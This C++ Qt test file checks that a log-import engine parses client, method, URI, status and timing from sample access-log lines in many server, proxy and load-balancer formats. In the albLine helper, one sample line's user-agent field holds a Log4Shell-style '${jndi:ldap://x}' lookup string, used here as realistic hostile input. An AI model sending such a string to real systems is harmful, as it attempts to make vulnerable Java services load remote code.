#include "engine/ingest/import/import.h"

#include "tests/ingest/sample_file.h"
#include "tests/support/test_class.h"

#include <QtTest/QTest>

using namespace spillway;

namespace {

/// One made-up log and what its first request is.
struct Line
{
    const char* format;
    const char* name;
    QByteArray text;
    qint64 arrivalMs;
    const char* client;
    const char* method;
    const char* uri;
    const char* status;
};

constexpr qint64 kTen = 1727863201000; // 2024-10-02 10:00:01 UTC

} // namespace

class TestPresets : public QObject
{
    Q_OBJECT

private slots:
    void aLineIsRead_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("format");
        QTest::addColumn<qint64>("arrivalMs");
        QTest::addColumn<QByteArrayList>("values");
        for (const auto& lines : {proxies(), balancers(), services(), servers()}) {
            for (const Line& line : lines)
                QTest::addRow("%s: %s", line.format, line.name)
                    << line.text << QByteArray(line.format) << line.arrivalMs
                    << QByteArrayList{line.client, line.method, line.uri, line.status};
        }
    }

    void aLineIsRead()
    {
        QFETCH(QByteArray, text);
        QFETCH(qint64, arrivalMs);
        QFETCH(QByteArrayList, values);
        const auto result = read(text.toStdString());
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QTEST(QByteArray::fromStdString(result->sources.at(0).format), "format");
        QCOMPARE(epochMs(result->trace->arrivals[0]), arrivalMs);
        const char* const names[] = {"remote_addr", "request_method", "uri", "status"};
        for (int i = 0; i < values.size(); ++i)
            QCOMPARE(valueOf(*result->trace, names[i], 0), values[i].toStdString());
    }

    void whatGoesWrongInHaproxyIsNoRequest()
    {
        const std::string request = "192.0.2.7:50033 [02/Oct/2024:10:00:01.123] in~ api/a 0/0/1/2/3 200 7 - - ---- "
                                    "1/1/0/0/0 0/0 \"GET /a HTTP/1.1\"\n";
        const auto result =
            read("192.0.2.7:50033 [02/Oct/2024:10:00:00.001] in/1: SSL handshake failure\n" +
                 std::string("192.0.2.8:50034 [02/Oct/2024:10:00:00.002] in/1: Connection closed\n") + request);
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QCOMPARE(result->sources.at(0).requests, std::uint64_t(1));
        QCOMPARE(result->sources.at(0).skipped, std::uint64_t(2));
        QVERIFY(result->sources.at(0).examples.at(0).reason.starts_with("This is a line of HAProxy that tells of no"));
    }

    void aClientThatHaproxyDoesNotTellIsMissing()
    {
        const std::string rest = ":50033 [02/Oct/2024:10:00:01.123] in~ api/a 0/0/1/2/3 200 7 - - ---- 1/1/0/0/0 0/0 "
                                 "\"GET /a HTTP/1.1\"\n";
        const auto result = read("192.0.2.7" + rest + "-" + rest);
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QCOMPARE(valueOf(*result->trace, "remote_addr", 0), std::string("192.0.2.7"));
        QCOMPARE(valueOf(*result->trace, "remote_addr", 1), std::string());
    }

    void tcpThroughALoadBalancerIsNoRequest()
    {
        const std::string request =
            "2024-10-02T10:00:01.123456Z lb 192.0.2.7:2817 10.0.0.1:80 0.000086 0.001 0.002 200 "
            "200 0 57 \"GET http://e.org:80/a HTTP/1.1\" \"curl/8\" - -\n";
        const auto result =
            read(request + "2024-10-02T10:00:02.123456Z lb 192.0.2.7:2817 10.0.0.1:80 0.001 0.0 0.0 - - "
                           "82 305 \"- - - \" \"-\" - -\n");
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QCOMPARE(result->sources.at(0).requests, std::uint64_t(1));
        QVERIFY(result->sources.at(0).examples.at(0).reason.find("carried TCP") != std::string::npos);
    }

    void hostOfALoadBalancersUrl()
    {
        const auto result = read(albLine("GET https://[2001:db8::1]:443/a HTTP/1.1") +
                                 albLine("GET https://shop.example.org:443/b?c=1 HTTP/1.1"));
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QCOMPARE(valueOf(*result->trace, "uri", 0), std::string("/a"));
        QCOMPARE(valueOf(*result->trace, "host", 1), std::string("shop.example.org"));
        QCOMPARE(valueOf(*result->trace, "args", 1), std::string("c=1"));
    }

    void aMonthThatIsMissingGoesOn()
    {
        const auto result = read("a.example.org [31:23:59:59] \"GET /a HTTP/1.0\" 200 1\n"
                                 "a.example.org [01:00:00:01] \"GET /b HTTP/1.0\" 200 -\n"
                                 "a.example.org [01:00:00:02] \"GET /\"c\" HTTP/1.0\" 302\n");
        QVERIFY2(result, result ? "" : result.error().message().c_str());
        QCOMPARE(result->trace->size(), std::size_t(3));
        QCOMPARE((result->trace->arrivals[1] - result->trace->arrivals[0]).count(), std::int64_t(2000));
        QCOMPARE(valueOf(*result->trace, "uri", 2), std::string("/\"c\""));
    }

private:
    static std::string albLine(const std::string& request)
    {
        return "h2 2024-10-02T10:00:02.500000Z app/lb/50dc 192.0.2.7:2817 - -1 -1 -1 404 - 34 366 \"" + request +
               "\" \"${jndi:ldap://x}\" ECDHE TLSv1.2 - \"Root=1-5\" \"-\" \"-\" 0 2024-10-02T10:00:01.123456Z "
               "\"forward\" "
               "\"-\" \"-\" \"-\" \"-\" \"-\" \"-\"\n";
    }

    static std::vector<Line> proxies()
    {
        const QByteArray haproxy = " [02/Oct/2024:10:00:01.123] in~ api/<NOSRV> -1/-1/-1/-1/+40 503 +212 - - SC-- "
                                   "2/1/0/0/0 0/0 ";
        return {
            {"haproxy", "IPv4", "192.0.2.7:50033" + haproxy + "\"GET /a?b=1 HTTP/1.1\"", kTen + 123, "192.0.2.7", "GET",
             "/a", "503"},
            {"haproxy", "IPv6 behind syslog's prefix, with captured headers",
             "Oct  2 10:00:01 gw haproxy[760]: 2001:db8::7:58430" + haproxy +
                 "{Mozilla/5.0 (X11; Linux)|e.org} {} \"POST /a HTTP/1.1\"",
             kTen + 123, "2001:db8::7", "POST", "/a", "503"},
            {"haproxy", "a request that was none", "[2001:db8::7]:1" + haproxy + "\"<BADREQ>\"", kTen + 123,
             "2001:db8::7", "", "", "503"},
            {"haproxy", "cut off inside the request", "192.0.2.7:50033" + haproxy + "\"GET /a/very/long", kTen + 123,
             "192.0.2.7", "GET", "/a/very/long", "503"},
            {"iis-native", "a year of four digits",
             "192.0.2.7, -, 10/2/2024, 10:00:02, W3SVC1, WEB, 10.0.0.1, 1500, 163, 3223, 200, 0, GET, /a, b=1,",
             kTen - 500, "192.0.2.7", "GET", "/a", "200"},
            {"iis-native", "of two",
             "192.0.2.7, D\\u, 10/02/24, 10:00:01, W3SVC12, WEB, 10.0.0.1, 0, 163, 0, 404, 2, POST, /a b, -,", kTen,
             "192.0.2.7", "POST", "/a b", "404"},
            {"php-fpm", "without a user", "192.0.2.7 -  02/Oct/2024:10:00:01 +0000 \"GET /index.php\" 200", kTen,
             "192.0.2.7", "GET", "/index.php", "200"},
            {"squid", "padded duration",
             "1727863202.500   1500 192.0.2.7 TCP_MISS/200 19763 GET http://e.org/a? u DIRECT/192.0.2.9 -", kTen,
             "192.0.2.7", "GET", "/a", "200"},
            {"squid", "a tunnel", "1727863201.000 200001 2001:db8::7 TCP_DENIED/407 1 CONNECT e.org:443 - NONE/- -",
             kTen - 200001, "2001:db8::7", "CONNECT", "", "407"},
            {"envoy", "first of a list",
             "[2024-10-02T10:00:01.123Z] \"POST /a HTTP/2\" 204 - 154 0 226 100 \"2001:db8::7, 10.0.0.1\" \"c\" \"id\" "
             "\"e.org\" \"tcp://10.0.2.1:80\"",
             kTen + 123, "2001:db8::7", "POST", "/a", "204"},
            {"envoy", "no client and no answer",
             "[2024-10-02T10:00:01.123Z] \"- - HTTP/1.1\" 0 DPE 0 11 0 - \"-\" \"-\" \"-\" \"-\" \"-\"", kTen + 123, "",
             "-", "", "0"},
            {"envoy", "behind the word that Ambassador puts before it",
             "ACCESS [2024-10-02T10:00:01.123Z] \"GET /a HTTP/1.1\" 501 - 0 0 180 179 \"192.0.2.7\" \"c\" \"id\" "
             "\"e.org\" "
             "\"10.0.2.1:80\"",
             kTen + 123, "192.0.2.7", "GET", "/a", "501"},
            {"istio", "address with port",
             "[2024-10-02T10:00:01.123Z] \"GET /a HTTP/1.1\" 200 - via_upstream - \"-\" 0 178 2 1 \"-\" \"c\" \"id\" "
             "\"d:9080\" \"10.0.0.1:9080\" inbound|9080|| 127.0.0.6:1 10.0.0.1:9080 [2001:db8::7]:39696 outbound_ "
             "default",
             kTen + 123, "2001:db8::7", "GET", "/a", "200"},
            {"zoraxy", "with an agent that has brackets",
             "[2024-10-02 10:00:01.123456] [router:host-http] [origin:e.org] [client: 2001:db8::7] [useragent: a [b] "
             "c] "
             "GET /a?b=c 200",
             kTen + 123, "2001:db8::7", "GET", "/a", "200"},
            {"zoraxy", "older",
             "[2024-10-02 10:00:01.123456] [router:host-http] [origin:e.org] [client 192.0.2.7] GET / 404", kTen + 123,
             "192.0.2.7", "GET", "/", "404"},
        };
    }

    static std::vector<Line> balancers()
    {
        return {
            {"aws-alb", "the arrival has a field of its own",
             QByteArray::fromStdString(albLine("GET https://e.org:443/a HTTP/1.1")), kTen + 123, "192.0.2.7", "GET",
             "/a", "404"},
            {"aws-alb", "a connection without a request", QByteArray::fromStdString(albLine("- http://e.org:80- -")),
             kTen + 123, "192.0.2.7", "", "", "404"},
            {"bunnycdn", "a CDN's edge",
             "MISS|200|1727863201123|128|12345|2001:db8::7|-|https://e.org/a?b=1|DE|c (X; Y)|289735f3|DE", kTen + 123,
             "2001:db8::7", "(no column)", "/a", "200"},
            {"aws-alb", "before there was a field for the arrival",
             "http 2024-10-02T10:00:02.500000Z app/lb/50dc [2001:db8::7]:2817 10.0.0.1:80 0.5 1.000 0.000 200 200 34 "
             "366 "
             "\"GET http://e.org:80/a HTTP/1.1\" \"c\" - - arn \"Root=1\"",
             kTen, "2001:db8::7", "GET", "/a", "200"},
            {"aws-elb", "classic",
             "2024-10-02T10:00:01.123456Z lb 192.0.2.7:2817 10.0.0.1:80 0.000086 0.001 0.002 200 200 0 57 \"GET "
             "https://e.org:443/a HTTP/1.1\" \"c\" DHE TLSv1.2",
             kTen + 123, "192.0.2.7", "GET", "/a", "200"},
            {"aws-elb", "without an agent",
             "2024-10-02T10:00:01.123456Z lb 192.0.2.7:2817 - -1 -1 -1 503 0 0 57 \"GET /a HTTP/1.1\"", kTen + 123,
             "192.0.2.7", "GET", "/a", "503"},
            {"aws-s3", "with and without the host",
             "b659 www.example.org [02/Oct/2024:10:00:01 +0000] 192.0.2.7 arn:aws:iam::1:user/x EB35 REST.GET.OBJECT a "
             "\"GET /a HTTP/1.1\" 200 - 368 368 10 9 \"-\" \"c\" -",
             kTen, "192.0.2.7", "GET", "/a", "200"},
        };
    }

    static std::vector<Line> services()
    {
        const QByteArray ingress = " - u [02/Oct/2024:12:00:02 +0200] \"GET /a HTTP/1.1\" 200 12 \"-\" \"c\" 80 0.500 "
                                   "[ns-svc-80] ";
        return {
            {"ingress-nginx-2019", "the real address in brackets",
             "10.0.0.1 - [192.0.2.7]" + ingress + "10.0.0.9:80 13 0.500 200 c994", kTen + 500, "192.0.2.7", "GET", "/a",
             "200"},
            {"ingress-nginx-2019", "2019: with an alternative upstream",
             "10.0.0.1 - [2001:db8::7]" + ingress + "[] 10.0.0.9:80 13 0.500 200 c994", kTen + 500, "2001:db8::7",
             "GET", "/a", "200"},
            {"ingress-nginx", "before there was an alternative upstream",
             "2001:db8::7" + ingress + "10.0.0.9:80 13 0.500 200", kTen + 500, "2001:db8::7", "GET", "/a", "200"},
            {"npmplus", "bare referer and agent",
             "[02/Oct/2024:10:00:01 +0000] e.org 192.0.2.7 0.250 \"GET /a HTTP/2.0\" 404 552 321 - Mozilla/5.0 (X11)",
             kTen - 250, "192.0.2.7", "GET", "/a", "404"},
            {"uwsgi", "msecs",
             "[pid: 24386|app: 0|req: 482950/4125645] 192.0.2.7 (u) {46 vars in 1110 bytes} [Wed Oct  2 10:00:01 2024] "
             "GET /a?b => generated 3 bytes in 129 msecs (HTTP/1.1 200) 3 headers in 110 bytes (2 switches on core 0)",
             kTen, "192.0.2.7", "GET", "/a", "200"},
            {"uwsgi", "micros",
             "[pid: 1|app: -1|req: -1/2] 2001:db8::7 () {1 vars in 1 bytes} [Wed Oct  2 10:00:01 2024] GET / => "
             "generated 3 bytes in 68 micros (HTTP/1.0 302) 1 headers in 1 bytes (2 switches on core 0)",
             kTen, "2001:db8::7", "GET", "/", "302"},
            {"epa", "a host's name, and no byte count", "pm.example.org [02:10:00:01] \"GET /a\" 304 -", 946807201000,
             "pm.example.org", "GET", "/a", "304"},
        };
    }

    static std::vector<Line> servers()
    {
        const QByteArray when = "[02/Oct/2024:10:00:01 +0000] ";
        const QByteArray what = "\"GET /a HTTP/1.1\" 200 12";
        const QByteArray agent = " \"-\" \"c\"";
        return {
            {"lighttpd", "the host second", "192.0.2.7 www.example.org - " + when + what + agent, kTen, "192.0.2.7",
             "GET", "/a", "200"},
            {"litespeed", "in quotes", "\"2001:db8::7 - - " + when + what + agent + "\"", kTen, "2001:db8::7", "GET",
             "/a", "200"},
            {"gandi", "seconds", "www.example.org 2001:db8::7 - u " + when + "(0 s) " + what + agent, kTen,
             "2001:db8::7", "GET", "/a", "200"},
            {"apisix", "host and duration",
             "192.0.2.7 - - " + when + "e.org " + what + " 0.250" + agent + " 10.0.0.2:80 200 0.2 \"http://e.org\"",
             kTen - 250, "192.0.2.7", "GET", "/a", "200"},
            {"ssl-request", "without a status", when + "192.0.2.7 TLSv1.2 ECDHE-RSA \"GET /a HTTP/1.1\" -", kTen,
             "192.0.2.7", "GET", "/a", "(no column)"},
            {"aem", "user in quotes", "192.0.2.7 - \"u\" 02/Oct/2024:10:00:01 +0000 " + what + agent, kTen, "192.0.2.7",
             "GET", "/a", "200"},
            {"python", "Flask", "192.0.2.7 - - [02/Oct/2024 10:00:01] \"GET /a HTTP/1.1\" 200 -", kTen, "192.0.2.7",
             "GET", "/a", "200"},
            {"gin", "padded",
             "[GIN] 2024/10/02 - 10:00:01 | 200 |     367.667\xC2\xB5s |      192.0.2.7 | GET      \"/a\"", kTen,
             "192.0.2.7", "GET", "/a", "200"},
        };
    }
};

SPILLWAY_TEST(TestPresets)
#include "tst_presets.moc"
